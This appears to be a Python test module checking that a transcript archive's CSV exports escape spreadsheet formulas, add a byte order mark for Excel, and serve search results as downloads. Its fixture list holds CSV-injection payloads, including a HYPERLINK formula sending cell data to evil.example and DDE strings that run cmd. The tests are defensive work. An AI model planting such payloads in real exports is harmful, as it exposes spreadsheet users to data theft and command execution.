"""Every CSV the archive writes is safe to open in a spreadsheet, and Excel reads its UTF-8."""

from __future__ import annotations

import csv
import io

from archive.exporters import EXPORTERS
from archive.exporters.table_csv import neutralize
from archive.search import indexer
from tests.api.helpers import ApiTestCase
from tests.fixtures import document, import_document

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tsearchable=1",
    "\rsearchable=2",
]
SAFE = "An ordinary searchable answer, 2+2=4."


def formula_document() -> dict[str, object]:
    turns: list[dict[str, str]] = []
    turns += [{"speaker": "=Mallory", "kind": "question", "text": text} for text in FORMULAS]
    turns.append({"speaker": "Shimon Peres", "kind": "answer", "text": SAFE})
    return document(
        slug="formulas",
        title="=1+1 searchable",
        speakers=[
            {"name": "=Mallory", "slug": "mallory"},
            {"name": "Shimon Peres", "slug": "shimon-peres"},
        ],
        turns=turns,
    )


def cells(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


class CsvFormulaTests(ApiTestCase):
    def setUp(self) -> None:
        super().setUp()
        import_document(formula_document())
        indexer.rebuild()  # nothing commits inside a TestCase: the index is built by hand

    def csv_bodies(self, format: str = "csv") -> dict[str, bytes]:
        urls = {
            "page export": f"/transcripts/formulas/export.{format}",
            "transcript": f"/api/v1/transcripts/formulas/?format={format}",
            "transcript turns": f"/api/v1/transcripts/formulas/turns/?format={format}",
            "turns": f"/api/v1/turns/?format={format}",
            "bulk export": f"/api/v1/export/?format={format}",
            "search": f"/api/v1/search/?q=searchable&format={format}",
        }
        bodies = {}
        for name, url in urls.items():
            response = self.client.get(url)
            self.assertEqual(response.status_code, 200, f"{name}: {url}")
            content = response.getvalue()  # streamed or not
            bodies[name] = content
        return bodies

    def test_no_cell_of_any_csv_starts_a_formula(self) -> None:
        for name, body in self.csv_bodies().items():
            rows = cells(body)
            with self.subTest(name):
                self.assertGreater(len(rows), 1)
                for row in rows:
                    for cell in row:
                        self.assertFalse(
                            cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{name}: {cell!r}"
                        )
                texts = {cell for row in rows for cell in row}
                if name != "search":  # search gives the hits only, not every turn
                    for formula in FORMULAS:
                        self.assertIn("'" + formula, texts, name)
                    self.assertIn(SAFE, texts, name)  # ordinary text is left as it is
                self.assertIn("'=Mallory", texts, name)

    def test_neutralize_follows_owasps_rule_and_leaves_numbers_alone(self) -> None:
        self.assertEqual(neutralize("=1+1"), "'=1+1")
        self.assertEqual(neutralize("\t=1"), "'\t=1")
        self.assertEqual(neutralize("a=1"), "a=1")
        self.assertEqual(neutralize(-2.5), -2.5)
        self.assertEqual(neutralize(""), "")

    def test_the_excel_variant_starts_with_a_byte_order_mark_and_plain_csv_does_not(self) -> None:
        for name, body in self.csv_bodies("csv-excel").items():
            with self.subTest(name):
                self.assertTrue(body.startswith(b"\xef\xbb\xbf"), name)
                self.assertEqual(body.count(b"\xef\xbb\xbf"), 1, name)
        for name, body in self.csv_bodies("csv").items():
            with self.subTest(name):
                self.assertFalse(body.startswith(b"\xef\xbb\xbf"), name)
        self.assertIn("csv-excel", EXPORTERS)

    def test_the_search_csv_is_a_download_like_the_others(self) -> None:
        response = self.client.get("/api/v1/search/", {"q": "searchable", "format": "csv"})
        self.assertEqual(response["Content-Disposition"], 'attachment; filename="search.csv"')
        turns = self.client.get("/api/v1/turns/", {"format": "csv"})
        self.assertTrue(turns["Content-Disposition"].startswith("attachment;"))
        error = self.client.get("/api/v1/search/", {"q": "searchable", "format": "csv", "page": "0"})
        self.assertFalse(error.has_header("Content-Disposition"), error.status_code)
